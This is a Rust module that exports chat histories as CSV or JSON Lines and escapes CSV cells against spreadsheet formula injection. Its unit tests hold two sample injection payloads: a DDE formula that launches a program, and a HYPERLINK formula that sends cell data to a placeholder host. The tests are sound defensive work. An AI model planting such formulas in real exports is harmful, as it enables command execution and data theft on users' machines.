//! Writes exports line by line, either as CSV for spreadsheets or as JSON Lines.

use engine::store::{ExportItem, ExportedRow, ExportedValue, PastChat};
use protocol::{
    agent::Directory,
    chat::{Author, Body, Entry},
    language::Language,
};
use serde_json::{Map, Value, json};

use super::{
    history::{agent_name, concierge_name, entry_words, outcome, rating_words, visitor_name},
    i18n,
};

/// An export format.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Format {
    /// Comma-separated values (RFC 4180), with one row per chat entry.
    Csv,
    /// One JSON object per line: each chat is followed by its entries. The last line contains the number of chats and
    /// entries.
    JsonLines,
}

/// Converts exported items into lines, keeping track of the chat that the current entries belong to.
#[derive(Debug)]
pub struct ExportWriter {
    directory: Directory,
    format: Format,
    chat: Option<PastChat>,
    counted: (u64, u64),
}

const HEADS: [&str; 12] = [
    "chat",
    "began_at",
    "ended_at",
    "outcome",
    "rating",
    "concierge",
    "visitor",
    "email",
    "seq",
    "at",
    "author",
    "text",
];

impl ExportWriter {
    /// Creates a writer for the given format. Names are looked up in the organization's directory.
    pub fn new(directory: Directory, format: Format) -> Self {
        Self { directory, format, chat: None, counted: (0, 0) }
    }

    /// Returns the text that precedes the first item.
    pub fn head(&self) -> String {
        match self.format {
            // The byte order mark lets spreadsheets detect UTF-8.
            Format::Csv => format!("\u{feff}{}", row(&HEADS.map(str::to_owned))),
            Format::JsonLines => String::new(),
        }
    }

    /// Returns the lines for an item. They are always in English so that exports by different agents can be compared.
    pub fn write_item(&mut self, item: ExportItem) -> String {
        i18n::in_language(Language::En, || self.item_lines(item))
    }

    fn item_lines(&mut self, item: ExportItem) -> String {
        match item {
            ExportItem::Chat(chat) => {
                self.counted.0 += 1;
                let line = match self.format {
                    Format::Csv => String::new(),
                    Format::JsonLines => format!("{}\n", json!({ "chat": self.chat_json(&chat) })),
                };
                self.chat = Some(*chat);
                line
            }
            ExportItem::Row(row) => self.row_line(&row),
            ExportItem::End => self.end(),
            ExportItem::Entry(entry) => {
                self.counted.1 += 1;
                match (self.format, &self.chat) {
                    (Format::Csv, Some(chat)) => self.csv(chat, &entry),
                    _ => format!("{}\n", json!({ "entry": self.entry_json(&entry) })),
                }
            }
        }
    }

    /// Returns the line for a row with data of a visitor: the table's name and the columns. Agents, concierges and teams
    /// are named.
    fn row_line(&mut self, row: &ExportedRow) -> String {
        match row.table.as_str() {
            "chat" => self.counted.0 += 1,
            "entry" => self.counted.1 += 1,
            _ => {}
        }
        let columns = row.columns.iter().map(|(name, value)| (name.clone(), self.value(value.as_ref())));
        let mut columns: Map<String, Value> = columns.collect();
        if row.table == "file"
            && let Some(id) = columns.get("id").and_then(Value::as_str)
        {
            let address = format!("/files/{id}").into();
            columns.insert("address".into(), address);
        }
        format!("{}\n", json!({ row.table.as_str(): columns }))
    }

    fn value(&self, value: Option<&ExportedValue>) -> Value {
        match value {
            None => Value::Null,
            Some(ExportedValue::Number(number)) => (*number).into(),
            Some(ExportedValue::Text(text)) => self.name_of(text).unwrap_or(text).into(),
        }
    }

    /// Returns the name of the agent, concierge or team with this id.
    fn name_of(&self, id: &str) -> Option<&str> {
        let Directory { agents, concierges, teams, .. } = &self.directory;
        let agents = agents.iter().map(|card| (card.id.0, &card.name));
        let concierges = concierges.iter().map(|card| (card.id.0, &card.name));
        let mut all = agents.chain(concierges).chain(teams.iter().map(|card| (card.id.0, &card.name)));
        let id = uuid::Uuid::parse_str(id).ok()?;
        all.find(|(found, _)| *found == id).map(|(_, name)| name.as_str())
    }

    /// Returns the text that follows the last item. In JSON Lines, its presence shows that the export is complete.
    pub fn end(&self) -> String {
        match self.format {
            Format::Csv => String::new(),
            Format::JsonLines => {
                format!("{}\n", json!({ "end": { "chats": self.counted.0, "entries": self.counted.1 } }))
            }
        }
    }

    fn csv(&self, chat: &PastChat, entry: &Entry) -> String {
        row(&[
            chat.id.to_string(),
            chat.began_at.to_string(),
            chat.ended_at.map(|at| at.to_string()).unwrap_or_default(),
            outcome(chat).to_owned(),
            chat.rating.map(rating_words).unwrap_or_default().to_owned(),
            concierge_name(&self.directory, chat).to_owned(),
            visitor_name(chat).to_owned(),
            chat.visitor_email.clone().unwrap_or_default(),
            entry.seq.to_string(),
            entry.at.to_string(),
            self.author(entry),
            entry_words(&self.directory, entry),
        ])
    }

    fn chat_json(&self, chat: &PastChat) -> Value {
        json!({
            "id": chat.id.to_string(), "began_at": chat.began_at, "ended_at": chat.ended_at, "outcome": outcome(chat),
            "rating": chat.rating.map(rating_words),
            "concierge": concierge_name(&self.directory, chat), "agent": chat.agent.map(|by| agent_name(&self.directory, by)),
            "visitor": { "id": chat.visitor.to_string(), "name": chat.visitor_name, "email": chat.visitor_email },
        })
    }

    fn entry_json(&self, entry: &Entry) -> Value {
        let is_message = matches!(entry.body, Body::Text(_) | Body::Edited { .. } | Body::File(_));
        let mut said = json!({
            "chat": self.chat.as_ref().map(|chat| chat.id.to_string()), "seq": entry.seq, "at": entry.at,
            "author": self.author(entry), "is_message": is_message, "text": entry_words(&self.directory, entry),
        });
        if let Body::File(card) = &entry.body {
            let address = card.id().map(|id| format!("/files/{id}"));
            said["file"] =
                json!({ "name": card.name(), "kind": card.kind(), "bytes": card.bytes(), "address": address });
        }
        said
    }

    fn author(&self, entry: &Entry) -> String {
        match entry.author {
            Author::Visitor => "visitor".to_owned(),
            Author::Agent(agent) => agent_name(&self.directory, agent),
            Author::Concierge => String::new(),
        }
    }
}

/// Formats a row, including its line ending.
fn row(cells: &[String]) -> String {
    format!("{}\r\n", cells.iter().map(|text| cell(text)).collect::<Vec<_>>().join(","))
}

/// Escapes a cell so that no spreadsheet interprets it as a formula. A cell that starts with `'`, or with a character
/// that could start a formula, is prefixed with `'`. Readers must strip one leading `'`.
fn cell(text: &str) -> String {
    const BEGINS_A_FORMULA: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\'', '＝', '＋', '－', '＠'];
    let text = text.replace('\0', "");
    let text = if text.starts_with(BEGINS_A_FORMULA) { format!("'{text}") } else { text };
    let is_plain = text.chars().all(|letter| !matches!(letter, '"' | ',' | ';' | '\r' | '\n' | '\t'));
    if is_plain && text.trim() == text { text } else { format!("\"{}\"", text.replace('"', "\"\"")) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cell_is_never_a_formula() {
        for text in
            ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"//x?\"&A1)"]
        {
            let cell = cell(text);
            assert!(cell.starts_with('\'') || cell.starts_with("\"'"), "{cell}");
        }
        assert_eq!(cell("a=1"), "a=1");
    }

    /// Parses a row the way a reader that supports RFC 4180 and the `'` prefix would.
    fn read_back(row: &str) -> Vec<String> {
        let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
        let mut letters = row.strip_suffix("\r\n").unwrap().chars().peekable();
        while let Some(letter) = letters.next() {
            match letter {
                '"' if quoted && letters.peek() == Some(&'"') => cell.push(letters.next().unwrap()),
                '"' => quoted = !quoted,
                ',' if !quoted => cells.push(std::mem::take(&mut cell)),
                _ => cell.push(letter),
            }
        }
        cells.push(cell);
        cells.into_iter().map(|cell| cell.strip_prefix('\'').map_or(cell.clone(), str::to_owned)).collect()
    }

    #[test]
    fn csv_row_round_trips() {
        let texts =
            ["plain", "a \"word\"", "one;two,three", "two\r\nlines", "🧗‍♀️", "=1", "'quoted'", "", " space ", "-"];
        let cells: Vec<String> = texts.iter().map(|text| (*text).to_owned()).collect();
        assert_eq!(read_back(&row(&cells)), cells);
    }
}
